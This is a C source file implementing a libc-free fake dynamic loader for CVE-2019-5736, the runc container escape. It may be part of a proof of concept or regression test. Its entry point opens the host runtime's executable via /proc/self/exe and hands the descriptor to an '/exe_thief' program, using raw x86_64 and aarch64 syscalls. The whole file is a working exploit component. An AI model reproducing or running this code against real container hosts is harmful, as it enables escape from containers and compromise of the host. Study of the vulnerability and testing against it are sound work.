/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * exe_loader: a container's dynamic loader that is none (CVE-2019-5736). When a runtime is made to
 * execute /proc/self/exe in the container, the kernel starts what lies in the container under the
 * name of the loader, in a process whose executable is the runtime. This one opens that executable
 * and hands it to /exe_thief. Without libc, which would take the runtime's headers for its own.
 */
#include <fcntl.h>
#include <sys/syscall.h>

__attribute__ ((noreturn)) void _start (void);

static long
call (long number, long a, long b, long c)
{
	long result;

#ifdef __x86_64__
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#elif defined __aarch64__
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	result = x0;
#else
	result = -1;
#endif
	return result;
}

void
_start (void)
{
	char file[] = "/tmp/stolen", seconds[] = "3", program[] = "/exe_thief", fd[] = "0";
	char executable[] = "/proc/self/exe";
	char *argv[] = { program, file, seconds, fd, 0 };
	char *environment[] = { 0 };
	long n = call (SYS_openat, AT_FDCWD, (long) executable, O_RDONLY);

	fd[0] = (char) ('0' + n);
	call (SYS_execve, (long) program, (long) argv, (long) environment);
	for (;;)
		call (SYS_exit_group, 77, 0, 0);
}
